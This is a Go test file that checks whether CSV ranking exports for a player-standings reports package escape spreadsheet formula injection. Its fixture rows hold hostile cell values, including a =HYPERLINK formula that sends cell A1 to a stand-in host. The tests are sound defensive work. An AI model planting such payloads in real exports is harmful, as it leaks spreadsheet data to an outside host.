package reports_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"arbiter/reports"
)

// hostileRows are players whose name or club a spreadsheet would run as a
// formula (or shift into one) if written raw, and a negative total and
// difference, which are numbers and stay so.
var hostileRows = []reports.StandingRow{
	{Rank: 1, Table: 1, Name: `=HYPERLINK("http://x.example/?"&A1,"POPESCU")`, Club: "+CS Iași", Total: 10, DiffToTop: 0, PercentOfTop: 100},
	{Rank: 2, Table: 2, Name: "-2+3", Club: "@SUM(A1)", Total: -5, DiffToTop: -15, PercentOfTop: -50},
	{Rank: 3, Table: 3, Name: "\tTAB", Club: "\rCR", Total: -6, DiffToTop: -16},
	{Rank: 4, Table: 4, Name: "O'NEIL = Ana", Club: "CS-Iași", Total: -7, DiffToTop: -17},
}

// TestRankingCSV_FormulaInjection: every text cell starting with =, +, -,
// @, tab or carriage return is written with a leading apostrophe; numbers
// (negative ones too) and other text are written as they are.
func TestRankingCSV_FormulaInjection(t *testing.T) {
	var b bytes.Buffer
	if err := reports.RankingCSV(&b, hostileRows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][2]string{ // name, club
		{`'=HYPERLINK("http://x.example/?"&A1,"POPESCU")`, "'+CS Iași"},
		{"'-2+3", "'@SUM(A1)"},
		{"'\tTAB", "'\rCR"},
		{"O'NEIL = Ana", "CS-Iași"},
	}
	for i, w := range want {
		rec := recs[i+1]
		if rec[2] != w[0] || rec[3] != w[1] {
			t.Errorf("row %d: name %q club %q, want %q %q", i+1, rec[2], rec[3], w[0], w[1])
		}
	}
	if rec := recs[2]; rec[4] != "-5" || rec[5] != "-50.0" || rec[6] != "-15" {
		t.Errorf("row 2 numbers: total %q percent %q diff %q, want -5 -50.0 -15", rec[4], rec[5], rec[6])
	}
}

func TestSectionsCSV_FormulaInjection(t *testing.T) {
	var b bytes.Buffer
	secs := []reports.Section{{Name: "=Juniori", Rows: hostileRows[:2]}}
	if err := reports.SectionsCSV(&b, "category", secs); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := recs[1][0] + "|" + recs[1][4] + "|" + recs[2][4]; got != "'=Juniori|'=HYPERLINK(\"http://x.example/?\"&A1,\"POPESCU\")|'-2+3" {
		t.Errorf("section, names: %q", got)
	}
}

func TestRankingLatin1_FormulaInjection(t *testing.T) {
	var b bytes.Buffer
	if err := reports.RankingLatin1(&b, hostileRows[1:2]); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), "table,name,total\n2,'-2+3,-5\n"; got != want {
		t.Errorf("Latin-1 export %q, want %q", got, want)
	}
}
